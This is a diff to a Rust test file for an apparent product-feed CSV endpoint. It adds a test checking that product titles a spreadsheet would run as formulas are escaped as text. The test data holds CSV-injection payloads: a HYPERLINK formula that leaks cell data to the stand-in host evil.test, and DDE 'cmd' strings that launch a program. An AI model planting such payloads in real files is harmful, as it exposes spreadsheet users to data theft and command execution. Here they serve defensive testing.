@@ -13,20 +13,25 @@ struct FeedSetup {
 }
 
 async fn feed_setup(app: &TestApp, slug: &str) -> FeedSetup {
-    let tenant = app.tenant(slug).await;
-    let (channel, _) =
-        register_channel(app, "feedy", "https://partner.example.com/h", json!({})).await;
-    let token = enable_channel(app, &tenant, &channel, json!({ "stockBuffer": 10 })).await;
-    let mut live = Vec::new();
     let titles = [
         "Keripik \"Pedas\" & <Renyah>, Asli",
         "Kopi Gayo",
         "Batik Tulis",
     ];
+    feed_of(app, slug, &titles, 2).await
+}
+
+/// A feed whose first `live` products (of these titles) are LIVE.
+async fn feed_of(app: &TestApp, slug: &str, titles: &[&str], live_count: usize) -> FeedSetup {
+    let tenant = app.tenant(slug).await;
+    let (channel, _) =
+        register_channel(app, "feedy", "https://partner.example.com/h", json!({})).await;
+    let token = enable_channel(app, &tenant, &channel, json!({ "stockBuffer": 10 })).await;
+    let mut live = Vec::new();
     for (index, title) in titles.iter().enumerate() {
         let product = product(app, &tenant, title).await;
         let listing = publish_on(app, &tenant, &product, &channel).await;
-        if index < 2 {
+        if index < live_count {
             app.db
                 .execute_unprepared(&format!(
                     "UPDATE channel_listings SET status = 'LIVE' WHERE id = {}",
@@ -100,6 +105,34 @@ async fn the_csv_feed_parses_and_lists_exactly_the_live_listings() {
     // 10 in stock, a buffer of 10 held back.
     assert_eq!(&rows[0][3], "out of stock");
     assert_eq!(&rows[0][8], "Keripik csvfeed");
+}
+
+#[tokio::test]
+async fn titles_that_a_spreadsheet_would_run_as_formulas_are_served_as_text() {
+    let app = quiet_app().await;
+    let titles = [
+        "=HYPERLINK(\"http://evil.test/?leak=\"&A1,\"Klik\")",
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+    ];
+    let setup = feed_of(&app, "formulas", &titles, titles.len()).await;
+
+    let text = get(
+        &app,
+        &format!("/feeds/feedy/formulas.csv?token={}", setup.token),
+    )
+    .await
+    .text()
+    .await
+    .unwrap();
+
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    let served: Vec<&str> = rows.iter().map(|row| &row[1]).collect();
+    let expected: Vec<String> = titles.iter().map(|title| format!("'{title}")).collect();
+    assert_eq!(served, expected);
+    assert!(rows.iter().all(|row| &row[5] == "15000 IDR"), "{rows:?}");
 }
 
 #[tokio::test]
